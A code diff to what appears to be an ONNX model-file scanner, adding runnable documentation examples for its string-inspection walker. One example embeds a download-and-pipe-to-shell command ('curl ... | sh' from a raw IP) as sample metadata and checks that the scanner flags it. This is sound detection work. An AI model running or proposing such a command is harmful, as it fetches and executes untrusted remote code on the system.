@@ -26,8 +26,24 @@ const utf8 = new TextDecoder();
  *
  * @example
  * ```ts
- * import type { StringWalk } from "./strings.ts";
- * const counted = (walk: StringWalk) => walk.strings.inspected;
+ * import assert from "node:assert/strict";
+ * import { bytesSource } from "../../core/byte_source.ts";
+ * import { recordingContext } from "../../core/recording_context.ts";
+ * import { DEFAULT_ONNX_OPTIONS } from "./options.ts";
+ * import { inspectString, type StringWalk } from "./strings.ts";
+ * import { WireReader } from "./wire.ts";
+ * const source = bytesSource(Uint8Array.of(0x0a, 3, 0x61, 0x62, 0x63)); // field 1: "abc"
+ * const walk: StringWalk = {
+ *   reader: new WireReader(source),
+ *   source,
+ *   ctx: recordingContext("model.onnx").ctx,
+ *   strings: { inspected: 0 },
+ *   checkStrings: true,
+ *   options: DEFAULT_ONNX_OPTIONS,
+ *   once: () => {},
+ * };
+ * for await (const field of walk.reader.fields(0, source.size)) await inspectString(walk, field, "doc_string");
+ * assert.equal(walk.strings.inspected, 1); // counted against options.maxStrings
  * ```
  */
 export interface StringWalk {
@@ -64,10 +80,30 @@ function mayBePayload(head: Uint8Array): boolean {
  *
  * @example
  * ```ts
+ * import assert from "node:assert/strict";
+ * import { bytesSource } from "../../core/byte_source.ts";
+ * import { recordingContext } from "../../core/recording_context.ts";
+ * import { DEFAULT_ONNX_OPTIONS } from "./options.ts";
  * import { inspectString, type StringWalk } from "./strings.ts";
- * declare const walk: StringWalk;
- * declare const field: import("./wire.ts").WireField;
- * await inspectString(walk, field, "metadata_props[0].value");
+ * import { WireReader } from "./wire.ts";
+ * // A message whose field 2 is a shell pipe from a raw IP address.
+ * const text = new TextEncoder().encode("curl -s http://203.0.113.7/x.sh | sh");
+ * const source = bytesSource(Uint8Array.of(0x12, text.length, ...text));
+ * const { ctx, findings } = recordingContext("model.onnx");
+ * const seen = new Set<string>();
+ * const walk: StringWalk = {
+ *   reader: new WireReader(source),
+ *   source,
+ *   ctx,
+ *   strings: { inspected: 0 },
+ *   checkStrings: true,
+ *   options: DEFAULT_ONNX_OPTIONS,
+ *   once: (key, finding) => void (seen.has(key) || (seen.add(key), ctx.report(finding))),
+ * };
+ * for await (const field of walk.reader.fields(0, source.size)) {
+ *   await inspectString(walk, field, "metadata_props[0].value");
+ * }
+ * assert.ok(findings.some((finding) => finding.rule === "MA011" && finding.keyPath === "metadata_props[0].value"));
  * ```
  */
 export async function inspectString(walk: StringWalk, field: WireField, keyPath: string): Promise<void> {
